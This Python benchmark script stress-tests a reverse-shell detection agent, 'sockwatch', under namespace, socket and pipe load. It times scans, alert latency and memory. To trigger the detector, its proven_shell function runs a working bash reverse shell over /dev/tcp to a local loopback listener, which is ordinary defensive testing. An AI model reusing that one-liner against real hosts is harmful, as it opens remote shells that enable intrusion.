#!/usr/bin/env python3
"""The agent under a hostile host state, run as the packaged unit runs it (its own uid, only
CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH, 1 s interval): the longest and median scan, the time from
a working reverse shell (proven by a round trip) to its incident_opened, and the agent's peak RSS.

States (one per run, all in one invocation so the figures share the machine's state):
  ns:N       N network namespaces made by an unprivileged user (unshare(NEWUSER|NEWNET))
  load:P/S   P processes holding S sockets (bench/load.py)
  pipe:K     K processes (`sleep`) whose stdin is one shared pipe: K processes, and one pipe
             with K holders for the relay walk

Usage: bench/hostile.py [--seconds 40] [STATE ...]   (default ns:2000 load:2000/100000 pipe:10000)
(bench/load.py's processes are Python, ~3 MiB each: 10 000 of them do not fit in 24 GiB; the
pipe state's sleeps give 10 000 processes.)
Needs root (it makes the users' processes and starts the agent through setpriv) and a release
build (cargo build --release).
"""
import argparse
import json
import os
import socket
import statistics
import subprocess
import sys
import threading
import time

from steady import peak_rss_mib

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
SOCKWATCH = os.path.join(ROOT, "target", "release", "sockwatch")
PYTHON = "/usr/bin/python3"
AGENT_UID, USER_UID = 64021, 64022
CAPS = "+sys_ptrace,+dac_read_search"

NAMESPACES = r"""
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
children = []
for _ in range(int(sys.argv[1])):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        libc.prctl(1, signal.SIGKILL)
        libc.unshare(0x10000000 | 0x40000000)
        os.write(w, b'x'); signal.pause(); os._exit(0)
    os.close(w); os.read(r, 1); os.close(r)
print('ready', flush=True)
sys.stdin.read()
"""

SHARED_PIPE = r"""
exec 3< <(sleep 3600)
for i in $(seq "$1"); do sleep 3600 <&3 & done
echo ready
read -r _
kill $(jobs -p) 2>/dev/null
"""


def as_user(uid, argv, caps=None):
    wrapper = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]
    if caps:
        wrapper += [f"--inh-caps=-all,{caps}", f"--ambient-caps={caps}"]
    else:
        wrapper += ["--inh-caps=-all"]
    return wrapper + argv


def start_state(state):
    kind, _, size = state.partition(":")
    if kind == "ns":
        argv = as_user(USER_UID, [PYTHON, "-c", NAMESPACES, size])
    elif kind == "pipe":
        argv = as_user(USER_UID, ["bash", "-c", SHARED_PIPE, "bash", size])
    elif kind == "load":
        p, s = size.split("/")
        argv = [sys.executable, os.path.join(HERE, "load.py"), "-P", p, "-S", s]
    else:
        raise SystemExit(f"unknown state {state}")
    proc = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    proc.stdout.readline()
    return proc


def proven_shell():
    """bash -i on a loopback connection of ours, proven by a round trip; (shell, socket, when)."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    shell = subprocess.Popen(
        as_user(USER_UID, ["bash", "-c", f"exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"]),
        stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    conn, _ = listener.accept()
    conn.settimeout(10)
    conn.sendall(b"echo round-$((20+22))-trip\n")
    seen = b""
    while b"round-42-trip" not in seen:
        seen += conn.recv(4096)
    return shell, conn, time.monotonic()


def measure(state, seconds):
    load = start_state(state)
    state_dir = f"/tmp/sockwatch-bench-hostile-{os.getpid()}"
    os.makedirs(state_dir, exist_ok=True)
    os.chown(state_dir, AGENT_UID, AGENT_UID)
    os.chmod(state_dir, 0o700)
    agent = subprocess.Popen(
        as_user(AGENT_UID, [SOCKWATCH, "run", "--no-baseline", "--heartbeat", "1s",
                            "--state-dir", state_dir], CAPS),
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    beats, alerts = [], {}
    def read():
        for line in agent.stdout:
            event = json.loads(line)
            action = event["event"]["action"]
            if action == "heartbeat":
                beats.append(event["sockwatch"])
            elif action == "incident_opened":
                alerts[event["process"]["pid"]] = time.monotonic()
    threading.Thread(target=read, daemon=True).start()
    time.sleep(seconds / 2)
    shell, conn, answered = proven_shell()
    deadline = time.monotonic() + seconds / 2
    while shell.pid not in alerts and time.monotonic() < deadline:
        time.sleep(0.05)
    alert_s = alerts[shell.pid] - answered if shell.pid in alerts else None
    while time.monotonic() < deadline:
        time.sleep(0.2)
    rss = peak_rss_mib(agent.pid)
    agent.terminate()
    agent.wait()
    shell.kill()
    conn.close()
    load.stdin.close()
    load.wait()
    durations = [b["last_scan_duration_ms"] for b in beats]
    last = beats[-1]["coverage"] if beats else {}
    return {
        "state": state,
        "scans": beats[-1]["scans"] if beats else 0,
        "max_scan_ms": max(durations, default=None),
        "median_scan_ms": statistics.median(durations) if durations else None,
        "alert_s": None if alert_s is None else round(alert_s, 2),
        "peak_rss_mib": round(rss, 1),
        "processes": last.get("processes_seen"),
        "namespaces": last.get("namespaces_seen"),
        "namespaces_deferred_total": sum(b["coverage"].get("namespaces_deferred", 0) for b in beats),
        "overruns": beats[-1]["scan_overruns"] if beats else None,
    }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--seconds", type=float, default=40)
    parser.add_argument("states", nargs="*", default=["ns:2000", "load:2000/100000", "pipe:10000"])
    args = parser.parse_args()
    for state in args.states:
        print(json.dumps(measure(state, args.seconds)), flush=True)


if __name__ == "__main__":
    main()
